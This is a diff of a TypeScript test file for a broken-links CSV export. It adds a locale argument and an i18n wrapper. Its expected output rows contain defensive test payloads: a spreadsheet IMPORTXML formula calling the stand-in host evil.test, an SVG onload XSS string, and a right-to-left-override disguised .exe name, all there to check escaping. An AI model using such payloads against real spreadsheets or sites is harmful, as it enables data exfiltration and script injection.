@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { asWritten } from '../i18n/phrase.ts';
+import { english } from '../../components/english.ts';
 import type { CrawlReport } from './report.ts';
 import { brokenLinksCsv, csvCell } from './report-csv.ts';
 
@@ -40,7 +42,7 @@ describe('brokenLinksCsv', () => {
         {
           url: 'https://site.example/gone',
           status: 404,
-          reason: 'HTTP 404',
+          reason: asWritten('HTTP 404'),
           kind: 'http-4xx',
           internal: true,
           linkCount: 2,
@@ -64,7 +66,7 @@ describe('brokenLinksCsv', () => {
         },
       ],
     } as unknown as CrawlReport;
-    expect(brokenLinksCsv(report).split('\r\n')).toEqual([
+    expect(brokenLinksCsv(report, english).split('\r\n')).toEqual([
       'url,status,kind,reason,page,element,attribute,text,line',
       `https://site.example/gone,404,http-4xx,HTTP 404,https://site.example/,a,href,"'=IMPORTXML(""http://evil.test"", ""//a"")",3`,
       `https://site.example/gone,404,http-4xx,HTTP 404,https://site.example/a,a,href,"""><svg onload=alert(1)> ⟨U+202E⟩gnp.exe",`,
